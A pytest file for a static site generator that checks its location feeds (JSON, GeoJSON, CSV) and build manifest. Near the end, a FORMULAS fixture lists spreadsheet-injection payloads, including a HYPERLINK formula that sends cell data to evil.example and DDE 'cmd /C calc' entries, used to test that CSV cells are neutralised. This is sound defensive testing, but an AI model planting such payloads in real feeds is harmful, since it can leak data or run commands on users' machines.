"""Feeds for other platforms and the build manifest, read from a real production build."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import re
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from support.sites import (
    BASE_CONFIG,
    REPO,
    build,
    copy_example,
    csv_text,
    generated_rows,
    make_site,
    run_cli,
    small_site,
    tree_hashes,
)
from test_hostile_input import assert_geojson_is_the_records

from sitegen.data.feedcsv import neutral, neutral_phone, restored, restored_phone
from sitegen.model.urls import slug

API = ("api/locations.json", "api/locations.geojson", "api/locations.csv", "api/manifest.json")


def dataset() -> list[dict[str, str]]:
    with (REPO / "locations" / "locations.csv").open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


@pytest.fixture(scope="module")
def production(tmp_path_factory: pytest.TempPathFactory) -> Path:
    site = copy_example(tmp_path_factory.mktemp("feeds") / "site")
    result = run_cli("build", "--source", site, env={
        "SITEGEN_LEADS__WEBHOOK_URL": "https://hooks.example/x"})
    assert result.returncode == 0, str(result)
    return site / "dist" / "production"


def test_locations_json_has_every_location(production: Path) -> None:
    rows = dataset()
    data = json.loads((production / "api/locations.json").read_text(encoding="utf-8"))
    assert data["version"] == 1 and data["count"] == len(rows) == 64
    assert data["site"] == {"name": "Juniper & Oak Coffee",
                            "url": "https://www.juniperoak.example/"}
    by_id = {record["id"]: record for record in data["locations"]}
    assert set(by_id) == {row["store_code"] for row in rows}
    hayes = by_id["JO-SF-001"]
    assert hayes["url"] == ("https://www.juniperoak.example/locations/us/ca/san-francisco/"
                            "juniper-oak-coffee-hayes-valley/")
    assert hayes["api_url"] is None  # no file of its own without feeds.per_location
    assert (hayes["lat"], hayes["lng"]) == (37.77652, -122.42389)
    assert hayes["phone"] == "+14155550142" and hayes["phone_display"] == "(415) 555-0142"
    assert hayes["categories"] == ["Café", "Roastery", "Wi-Fi"]
    assert hayes["hours"]["monday"] == [["07:00", "18:00"]]
    assert hayes["special_hours"][0] == {"date": "2026-11-26", "hours": [],
                                         "note": "Thanksgiving Day"}
    assert hayes["image"] == "https://www.juniperoak.example/images/stores/jo-sf-001.jpg"
    assert hayes["extra"]["Services"].startswith("Pour-over bar")
    for record in data["locations"]:  # each page the feed points at exists
        path = record["url"].removeprefix("https://www.juniperoak.example/")
        assert (production / path / "index.html").is_file(), record["url"]


def test_no_file_per_location_by_default(production: Path) -> None:
    assert not (production / "api" / "locations").exists()
    manifest = (production / "api/manifest.json").read_text(encoding="utf-8")
    assert "api/locations/" not in manifest


def test_one_file_per_location_with_a_path_safe_id(tmp_path: Path) -> None:
    site = copy_example(tmp_path / "site")
    build(site, env={"SITEGEN_LEADS__WEBHOOK_URL": "https://hooks.example/x",
                     "SITEGEN_FEEDS__PER_LOCATION": "true"})
    out = site / "dist" / "production"
    listed = json.loads((out / "api/locations.json").read_text(encoding="utf-8"))
    files = sorted((out / "api" / "locations").glob("*.json"))
    assert len(files) == 64
    for record in listed["locations"]:
        path = out / "api" / "locations" / f"{slug(record['id'])}.json"
        assert record["api_url"] == f"https://www.juniperoak.example/api/locations/{path.name}"
        assert json.loads(path.read_text(encoding="utf-8")) == record
    assert json.loads((out / "api/locations/jo-sf-001.json").read_text())["id"] == "JO-SF-001"


def test_geojson_is_a_feature_collection_of_lng_lat_points(production: Path) -> None:
    rows = {row["store_code"]: row for row in dataset()}
    data = json.loads((production / "api/locations.geojson").read_text(encoding="utf-8"))
    assert data["type"] == "FeatureCollection"
    assert len(data["features"]) == 64
    for feature in data["features"]:
        assert feature["type"] == "Feature"
        geometry = feature["geometry"]
        assert geometry["type"] == "Point" and len(geometry["coordinates"]) == 2
        lng, lat = geometry["coordinates"]
        row = rows[feature["id"]]
        assert (lng, lat) == (float(row["Longitude"]), float(row["Latitude"]))
        assert -180 <= lng <= 180 and -90 <= lat <= 90
        assert feature["properties"]["id"] == feature["id"]
        assert "lat" not in feature["properties"] and "lng" not in feature["properties"]
    assert_geojson_is_the_records(production)


def test_csv_opens_with_the_csv_module(production: Path) -> None:
    text = (production / "api/locations.csv").read_text(encoding="utf-8")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert len(rows) == 64
    assert {row["id"] for row in rows} == {row["store_code"] for row in dataset()}
    hayes = next(row for row in rows if row["id"] == "JO-SF-001")
    assert hayes["hours.monday"] == "07:00-18:00" and hayes["hours.saturday"] == "08:00-17:00"
    assert hayes["special_hours"].startswith("2026-11-26 closed Thanksgiving Day; ")
    assert hayes["categories"] == "Café,Roastery,Wi-Fi"
    assert "extra.Services" in rows[0]
    assert "Manager Email" not in rows[0] and "extra.Manager Email" not in rows[0]


def test_private_column_appears_nowhere(production: Path) -> None:
    secrets = {row["Manager Email"] for row in dataset() if row["Manager Email"]}
    assert len(secrets) > 10
    for path in production.rglob("*"):
        if path.is_file():
            data = path.read_bytes()
            assert b"Manager Email" not in data, path
            for secret in secrets:
                assert secret.encode() not in data, (path, secret)


def test_manifest_hashes_every_written_file(production: Path) -> None:
    manifest = json.loads((production / "api/manifest.json").read_text(encoding="utf-8"))
    assert manifest["generator"]["name"] == "sitegen"
    assert manifest["environment"] == {"name": "production", "kind": "production"}
    assert manifest["build_time_source"] == "inputs"
    hashes = tree_hashes(production)
    del hashes["api/manifest.json"]
    assert {f["path"]: f["sha256"] for f in manifest["files"]} == hashes
    assert manifest["counts"]["files"] == len(hashes) + 1
    assert manifest["counts"]["locations"] == 64
    pages = {p["url"]: p for p in manifest["pages"]}
    assert pages["/"]["file"] == "index.html"
    assert pages["/"]["sha256"] == hashes["index.html"]
    assert "/thanks/" in pages and manifest["counts"]["pages"] == len(pages)
    for page in manifest["pages"]:
        assert hashes[page["file"]] == page["sha256"]
    # the entries are spelled out as strings: they must be what json.dumps gives
    data = (production / "api/manifest.json").read_text(encoding="utf-8")
    assert data == json.dumps(manifest, ensure_ascii=False, separators=(",", ":")) + "\n"


def test_build_time_comes_from_source_date_epoch_or_the_inputs(tmp_path: Path) -> None:
    site = small_site(tmp_path / "site", generated_rows(3))
    stamp = 1_700_000_000
    for path in site.rglob("*"):
        os.utime(path, (stamp, stamp))
    result = run_cli("build", "--source", site, "--out", tmp_path / "a")
    assert result.returncode == 0, str(result)
    manifest = json.loads((tmp_path / "a/api/manifest.json").read_text(encoding="utf-8"))
    # The newest input may be the built-in theme; never the clock, and never older than ours.
    assert manifest["build_time_source"] == "inputs"
    assert manifest["build_time"] >= "2023-11-14T22:13:20Z"
    result = run_cli("build", "--source", site, "--out", tmp_path / "b",
                     env={"SOURCE_DATE_EPOCH": str(stamp)})
    manifest = json.loads((tmp_path / "b/api/manifest.json").read_text(encoding="utf-8"))
    assert manifest["build_time"] == "2023-11-14T22:13:20Z"
    assert manifest["build_time_source"] == "SOURCE_DATE_EPOCH"
    bad = run_cli("build", "--source", site, "--out", tmp_path / "c",
                  env={"SOURCE_DATE_EPOCH": "yesterday"})
    assert bad.returncode == 1 and "SOURCE_DATE_EPOCH: 'yesterday' is not a Unix time" in \
        bad.stderr


def test_two_builds_of_the_same_input_are_byte_identical(tmp_path: Path) -> None:
    site = small_site(tmp_path / "site", generated_rows(5))
    for out in ("one", "two"):
        result = run_cli("build", "--source", site, "--out", tmp_path / out)
        assert result.returncode == 0, str(result)
    one, two = tree_hashes(tmp_path / "one"), tree_hashes(tmp_path / "two")
    assert {k: v for k, v in one.items() if k.startswith("api/")} == \
        {k: v for k, v in two.items() if k.startswith("api/")}
    assert one == two
    manifest = (tmp_path / "one/api/manifest.json").read_bytes()
    assert hashlib.sha256(manifest).hexdigest() == two["api/manifest.json"]


# --- the CSV feed in a spreadsheet ------------------------------------------------------------

FORMULAS = ['=HYPERLINK("https://evil.example/?leak="&A1,"Click")', "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1 tab", "\r=1+1 cr"]


def formula_site(root: Path) -> Path:
    rows = generated_rows(len(FORMULAS))
    for index, (row, formula) in enumerate(zip(rows, FORMULAS, strict=True)):
        row.update(name=formula, description=formula, notes=formula,
                   street=FORMULAS[index - 1] + " Main Street")
    rows[0]["phone"] = "+44 20 7946 0000"  # E.164 and international display start with +
    rows[1]["phone"] = "555-0123"          # no area code: written as it is, digits first
    return make_site(root, {"config/base.yaml": BASE_CONFIG,
                            "locations/locations.csv": csv_text(rows, quoting=csv.QUOTE_ALL),
                            "content/about.md": "---\ntitle: About\n---\nHi\n"})


def feeds_of(out: Path) -> tuple[list[dict], list[dict[str, str]], str]:
    """The JSON records and the CSV rows, in id order, and the CSV's text."""
    records = json.loads((out / "api/locations.json").read_text(encoding="utf-8"))["locations"]
    text = (out / "api/locations.csv").read_text(encoding="utf-8")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    return sorted(records, key=lambda r: r["id"]), sorted(rows, key=lambda r: r["id"]), text


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(tmp_path: Path) -> None:
    site = formula_site(tmp_path / "site")
    build(site)
    records, rows, text = feeds_of(site / "dist" / "production")
    assert [r["name"] for r in records] == [f.strip() for f in FORMULAS]  # JSON: exact
    for record, row in zip(records, rows, strict=True):
        for name in ("name", "street", "description"):
            assert row[name] == "'" + record[name], name
        assert row["extra.notes"] == "'" + record["extra"]["notes"]
        assert row["lng"] == str(record["lng"]) and row["lng"].startswith("-")  # a number
        assert row["city"] == record["city"] and row["hours.monday"] == "09:00-17:00"
    assert (records[0]["phone"], records[0]["phone_display"]) == ("+442079460000",
                                                                  "+44 20 7946 0000")
    assert (rows[0]["phone"], rows[0]["phone_display"]) == ("'+442079460000",
                                                            "'+44 20 7946 0000")
    assert (records[1]["phone"], rows[1]["phone"], rows[1]["phone_display"]) == (
        "555-0123", "'555-0123", "'555-0123")
    assert rows[2]["phone_display"] == records[2]["phone_display"] == "(217) 555-0003"
    assert all(line.startswith('"') for line in text.splitlines() if line)  # every field quoted
    geo = json.loads((site / "dist/production/api/locations.geojson").read_text())
    assert sorted(f["properties"]["description"] for f in geo["features"]) == \
        sorted(f.strip() for f in FORMULAS)


def test_the_csv_feed_reads_back_as_the_same_locations(tmp_path: Path) -> None:
    site = formula_site(tmp_path / "site")
    build(site)
    original, _, feed = feeds_of(site / "dist" / "production")
    again = make_site(tmp_path / "again", {
        "config/base.yaml": BASE_CONFIG, "locations/locations.csv": feed,
        "content/about.md": "---\ntitle: About\n---\nHi\n"})
    build(again)
    read_back, _, feed_again = feeds_of(again / "dist" / "production")
    for before, after in zip(original, read_back, strict=True):
        assert {k: v for k, v in after.items() if k != "extra"} == \
            {k: v for k, v in before.items() if k != "extra"}
        # columns sitegen has no field for come back as extra columns, under their names
        assert after["extra"]["extra.notes"] == before["extra"]["notes"]
        assert after["extra"]["phone_display"] == before["phone_display"]


@settings(max_examples=500, deadline=None)
@given(value=st.text() | st.sampled_from(["'", "''=1", "-5", "-5e-3", "'-5", "+1", "0"])
       .flatmap(lambda s: st.tuples(st.sampled_from(["", "'", "''", "=", "-", "@", "\t", "\r",
                                                     "+", "0"]), st.just(s)).map("".join)))
def test_neutral_cells_never_start_a_formula_and_read_back_exactly(value: str) -> None:
    cell = neutral(value)
    assert restored(cell) == value
    assert not cell[:1] or cell[:1] not in "=+-@\t\r" or re.fullmatch(r"-[0-9.eE+-]+", cell)
    phone = neutral_phone(value)
    assert restored_phone(phone) == value
    assert not phone[:1] or phone[:1] not in "=+-@\t\r0123456789"
